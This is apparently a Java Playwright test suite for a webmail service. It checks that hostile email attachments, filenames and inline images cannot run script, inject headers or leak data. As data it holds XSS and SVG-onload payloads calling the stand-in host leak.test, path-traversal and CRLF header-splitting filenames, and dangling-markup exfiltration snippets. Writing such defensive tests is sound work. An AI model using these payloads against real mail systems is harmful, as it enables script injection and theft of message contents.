package org.bocau.safety;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.APIResponse;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.WaitUntilState;
import java.io.IOException;
import java.util.List;
import org.bocau.testing.BrowserTest;
import org.bocau.testing.TestAccount;
import org.bocau.testing.TestBrowser;
import org.bocau.testing.TestBrowser.Device;
import org.bocau.testing.TestServer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** The parts of hostile messages: as files, as pictures, beside each other. */
@BrowserTest
class PartsTest {
    private static final String SCRIPT =
            "<html xmlns='http://www.w3.org/1999/xhtml'><body><script>alert(27);fetch('http://leak.test/27')</script>"
                    + "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(27)'><image href='http://leak.test/27'/></svg>"
                    + "<img src='http://leak.test/27'/></body></html>";

    /** What a part may claim to be; some are shown in the browser, none may run there. */
    private static final List<String> TYPES =
            List.of(
                    "text/html",
                    "TEXT/HTML; charset=utf-7",
                    "image/svg+xml",
                    "text/xml",
                    "application/xml",
                    "application/xhtml+xml",
                    "application/rss+xml",
                    "application/mathml+xml",
                    "multipart/x-mixed-replace",
                    "message/rfc822",
                    "application/x-mimearchive",
                    "application/javascript",
                    "text/javascript",
                    "text/css",
                    "text/vtt",
                    "text/x-html",
                    "text/plain",
                    "text/plain; charset=utf-7",
                    "image/png",
                    "image/png, text/html",
                    "image/*",
                    "application/pdf",
                    "application/octet-stream",
                    "text/html\n X-Evil: 1",
                    "text/calendar; method=REQUEST",
                    "text/vcard",
                    "text/x-vcard; charset=utf-7",
                    "x/y");

    private final TestServer server;
    private final LeakServer leak = new LeakServer();

    PartsTest(TestServer server) {
        this.server = server;
    }

    @AfterEach
    void close() {
        leak.close();
    }

    private Page signIn(BrowserContext context, TestAccount account) {
        leak.watch(context);
        return TestBrowser.signIn(context, server, account);
    }

    private APIResponse get(Page page, String path) {
        return page.request().get(server.web() + path);
    }

    @Test
    @Tag("T27")
    @Tag("T29")
    @Tag("T30")
    void noFileRunsOrLoadsWhateverItClaimsToBe() throws IOException {
        var an = server.account("an");
        for (var type : TYPES) {
            var part =
                    Letters.part(
                            "Content-Type: "
                                    + type
                                    + "\nContent-Disposition: inline; filename=a.html",
                            leak.aimed(SCRIPT));
            var text = Letters.part("Content-Type: text/plain", "see the file");
            server.deliver(an.login(), Letters.multipart("mixed", "file", text, part));
        }
        try (var context = TestBrowser.shared().open(Device.DESKTOP, "en-GB")) {
            var page = signIn(context, an);
            for (int uid = 1; uid <= TYPES.size(); uid++) {
                var path = "/mail/inbox/" + uid + "/part/2?inline=1";
                requireHarmless(get(page, path), TYPES.get(uid - 1));
                requireHarmless(get(page, "/mail/inbox/" + uid + "/part/2"), TYPES.get(uid - 1));
                lookAt(page, path);
                page.navigate(server.web() + "/mail/inbox/" + uid);
            }
        }
        leak.requireSilence();
    }

    /** Goes there; what is saved instead of shown ends the navigation. */
    private void lookAt(Page page, String path) {
        try {
            page.navigate(
                    server.web() + path,
                    new Page.NavigateOptions().setWaitUntil(WaitUntilState.LOAD));
        } catch (com.microsoft.playwright.PlaywrightException download) {
            assertThat(download.getMessage()).containsAnyOf("Download is starting", "ERR_ABORTED");
        }
    }

    private static void requireHarmless(APIResponse answer, String type) {
        if (answer.status() == 404) return; // a multipart is no file
        var headers = answer.headers();
        assertThat(answer.status()).as(type).isEqualTo(200);
        assertThat(headers.get("x-content-type-options")).as(type).isEqualTo("nosniff");
        assertThat(headers.get("content-security-policy")).as(type).startsWith("sandbox;");
        assertThat(headers.get("cross-origin-resource-policy")).as(type).isEqualTo("same-origin");
        assertThat(headers).as(type).doesNotContainKey("x-evil");
        if (headers.getOrDefault("content-disposition", "").startsWith("inline")) {
            assertThat(headers.get("content-type"))
                    .as(type)
                    .matches(
                            "image/(png|jpeg|gif|webp|avif)|application/pdf|text/plain;charset=.*");
        } else {
            assertThat(headers.get("content-type")).as(type).isEqualTo("application/octet-stream");
        }
    }

    @Test
    @Tag("T28")
    void namesOfFilesStayNames() throws IOException {
        var names =
                List.of(
                        "../../etc/passwd",
                        "..\\..\\autorun.inf",
                        "a\\\"; filename=\\\"evil.html",
                        "invoice\u202Efdp.exe",
                        ".htaccess",
                        "a".repeat(10_000) + ".txt",
                        "CON<>|:*?.txt",
                        "=?utf-8?Q?a=0D=0AX-Evil=3A_1=0D=0A=0D=0A<script>.html?=",
                        "nul=?utf-8?Q?=00?=.txt");
        var an = server.account("an");
        for (var name : names) {
            var header =
                    "Content-Type: text/x-c\nContent-Disposition: attachment; filename=\""
                            + name
                            + "\"";
            server.deliver(
                    an.login(), Letters.multipart("mixed", "names", Letters.part(header, "x")));
        }
        var split =
                "Content-Type: text/x-c\nContent-Disposition: attachment;"
                        + " filename*=utf-8''a%0D%0AX-Evil%3A%201%0D%0A%0D%0A%00%2F..%2Fx.txt";
        server.deliver(an.login(), Letters.multipart("mixed", "split", Letters.part(split, "x")));
        try (var context = TestBrowser.shared().open(Device.DESKTOP, "en-GB")) {
            var page = signIn(context, an);
            for (int uid = 1; uid <= names.size() + 1; uid++) {
                page.navigate(server.web() + "/mail/inbox/" + uid);
                var saved = page.waitForDownload(() -> page.locator("a.attachment").click());
                assertThat(saved.suggestedFilename())
                        .as("%d", uid)
                        .isNotEmpty()
                        .hasSizeLessThanOrEqualTo(200)
                        .doesNotContain("/", "\\", "\"", "\u202E", "\r", "\n", "\0", "<", "..")
                        .doesNotStartWith(".");
                var headers = get(page, "/mail/inbox/" + uid + "/part/1").headers();
                assertThat(headers).doesNotContainKey("x-evil");
                assertThat(headers.get("content-disposition")).startsWith("attachment;");
            }
        }
    }

    private static final String PIXEL =
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

    private static String image(String type, String id) {
        return "Content-Type: %s\nContent-ID: <%s>\nContent-Transfer-Encoding: base64\n\n%s\n"
                .formatted(type, id, PIXEL);
    }

    @Test
    @Tag("T31")
    void onlyPicturesOfTheMessageItselfStandInIt() throws IOException {
        var an = server.account("an");
        var html =
                Letters.part(
                        "Content-Type: text/html",
                        "<img src='cid:good'><img src='cid:page'><img src='cid:drawing'><img src='cid:elsewhere'>"
                                + "<img src='cid:self'><a href='cid:good'>x</a><img src='/cid/forged.token'>");
        var page =
                Letters.part("Content-Type: text/html\nContent-ID: <page>", "<img src='cid:good'>");
        var self =
                Letters.part("Content-Type: text/html\nContent-ID: <self>", "<img src='cid:self'>");
        server.deliver(
                an.login(),
                Letters.multipart(
                        "related",
                        "pictures",
                        html,
                        image("image/png", "good"),
                        page,
                        image("image/svg+xml", "drawing"),
                        self));
        server.deliver(
                an.login(), Letters.multipart("related", "other", image("image/png", "elsewhere")));
        try (var context = TestBrowser.shared().open(Device.DESKTOP, "en-GB")) {
            var browser = signIn(context, an);
            browser.navigate(server.web() + "/mail/inbox/1");
            var mail = browser.frameLocator(".message-frame").locator("#mail");
            var good = mail.locator("img[src^='/cid/']");
            com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat(good).hasCount(1);
            browser.waitForCondition(() -> good.evaluate("i => i.naturalWidth").equals(1));
            com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat(
                            mail.locator("a[href], img[src]"))
                    .hasCount(1);
            requireSigned(browser, good.getAttribute("src"));
        }
    }

    /** The address is good as it is, and in no other form; and for a picture alone. */
    private void requireSigned(Page page, String address) {
        var answer = get(page, address);
        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.headers()).containsEntry("cross-origin-resource-policy", "cross-origin");
        assertThat(answer.headers().get("content-security-policy")).startsWith("sandbox;");
        int dot = address.indexOf('.');
        var other = address.charAt(dot - 3) == 'A' ? 'B' : 'A';
        for (var forged :
                List.of(
                        address.substring(0, dot - 3) + other + address.substring(dot - 2),
                        address.substring(0, dot),
                        address + "A",
                        address.substring(0, dot + 1))) {
            assertThat(get(page, forged).status()).as(forged).isEqualTo(404);
        }
    }

    @Test
    @Tag("T31")
    void aPictureBeyondItsBoundIsNotShown() throws IOException {
        var an = server.account("an");
        var html = Letters.part("Content-Type: text/html", "<img src='cid:big'>");
        var big =
                "Content-Type: image/png\nContent-ID: <big>\nContent-Transfer-Encoding: base64\n\n"
                        + ("A".repeat(76) + "\n").repeat(190_000);
        server.deliver(an.login(), Letters.multipart("related", "big", html, big));
        try (var context = TestBrowser.shared().open(Device.DESKTOP, "en-GB")) {
            var page = signIn(context, an);
            var body = get(page, "/mail/inbox/1/body").text();
            var address = body.replaceFirst("(?s).*src=\"(/cid/[^\"]+)\".*", "$1");
            assertThat(address).startsWith("/cid/");
            assertThat(get(page, address).status()).isEqualTo(404);
        }
    }

    @Test
    @Tag("T51")
    void noPartReachesIntoTheNext() throws IOException {
        var an = server.account("an");
        var before =
                Letters.part(
                        "Content-Type: text/html", leak.aimed("<img src=\"http://leak.test/?"));
        var secret = Letters.part("Content-Type: text/plain", "the secret of part two");
        var after = Letters.part("Content-Type: text/html", "\">");
        server.deliver(an.login(), Letters.multipart("mixed", "exfil", before, secret, after));
        server.deliver(
                an.login(),
                Letters.multipart(
                        "mixed",
                        "style",
                        Letters.part(
                                "Content-Type: text/html",
                                leak.aimed("<style>a{background:url(http://leak.test/?")),
                        secret));
        server.deliver(
                an.login(),
                Letters.multipart(
                        "alternative",
                        "form",
                        Letters.part(
                                "Content-Type: text/html",
                                leak.aimed("<form action=http://leak.test/><textarea name=x>")),
                        secret));
        try (var context = TestBrowser.shared().open(Device.DESKTOP, "en-GB")) {
            var page = signIn(context, an);
            for (int uid = 1; uid <= 3; uid++) {
                for (var query : List.of("", "?images=1", "?view=text")) {
                    page.navigate(server.web() + "/mail/inbox/" + uid + query);
                    page.locator(".reading .message").waitFor();
                }
                page.navigate(server.web() + "/mail/inbox/" + uid + "/print?images=1");
            }
        }
        assertThat(leak.alerts()).isEmpty();
        assertThat(leak.hits()).noneMatch(hit -> hit.path().contains("secret"));
    }
}
